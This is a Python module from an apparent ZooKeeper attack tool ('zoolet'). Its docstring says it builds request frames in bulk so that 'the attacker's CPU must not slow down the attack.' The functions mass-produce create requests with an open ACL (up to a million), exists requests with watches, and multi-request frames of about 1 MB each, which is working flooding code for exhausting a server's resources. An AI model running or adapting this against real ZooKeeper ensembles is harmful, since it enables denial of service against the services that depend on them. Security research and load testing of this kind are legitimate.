"""Functions that build many request frames at a time, because the attacker's CPU must not slow down the attack."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Final

from zoolet.protocol.acl import ACL, OPEN_ACL_UNSAFE, Id
from zoolet.protocol.codec import Int, Record, combined_struct, pack_int, put_bytes, put_str
from zoolet.protocol.framing import frame
from zoolet.protocol.multi import END
from zoolet.protocol.operations import OpCode
from zoolet.protocol.records import CreateRequest, MultiHeader, RequestHeader

CREATE_TAIL: Final = CreateRequest("", b"", OPEN_ACL_UNSAFE, 0).encode()[8:]
"""The end of a create request, after path and data: the open ACL, and flags 0."""
OPEN_ACL: Final = CREATE_TAIL[:-4]
_HEADER_STRUCT: Final = combined_struct(Int, RequestHeader)


def request(op: OpCode, body: bytes | Record, xid: int = 1) -> bytes:
    """Return the frame of a request."""
    return frame(RequestHeader(xid, op).encode() + (body if isinstance(body, bytes) else body.encode()))


def creates(paths: Iterable[str], data: bytes = b"", flags: int = 0) -> bytes:
    """Return the frames of many creates. They are built without records, because there are up to a million."""
    tail = put_bytes(data) + OPEN_ACL + pack_int(flags)
    fixed, pack, op, parts = 8 + len(tail), _HEADER_STRUCT.pack, int(OpCode.CREATE), []
    for path in paths:
        raw = put_str(path)
        parts.append(pack(fixed + len(raw), 1, op) + raw + tail)
    return b"".join(parts)


def exists(paths: Iterable[str], *, watch: bool = True) -> bytes:
    """Return the frames of exists requests for many paths, with or without a watch."""
    tail, pack, op, parts = bytes([watch]), _HEADER_STRUCT.pack, int(OpCode.EXISTS), []
    for path in paths:
        raw = put_str(path)
        parts.append(pack(9 + len(raw), 1, op) + raw + tail)
    return b"".join(parts)


def encode_acl(entries: list[tuple[int, str, str]]) -> bytes:
    """Return an ACL list in its wire format."""
    return pack_int(len(entries)) + b"".join(ACL(perms, Id(s, i)).encode() for perms, s, i in entries)


def multi_frame(kind: OpCode, bodies: list[bytes], op: OpCode = OpCode.MULTI) -> bytes:
    """Return the frame of a multi or multiRead of one kind of operation."""
    header = MultiHeader(kind, False, -1).encode()
    return request(op, b"".join([header + body for body in bodies]) + END)


def create_bodies(tag: str) -> list[bytes]:
    """Return the bodies of 10,000 creates below ``/m``, about 1 MB."""
    data = put_bytes(bytes(30))
    return [put_str(f"/m/{tag}{number:06}") + data + CREATE_TAIL for number in range(10_000)]
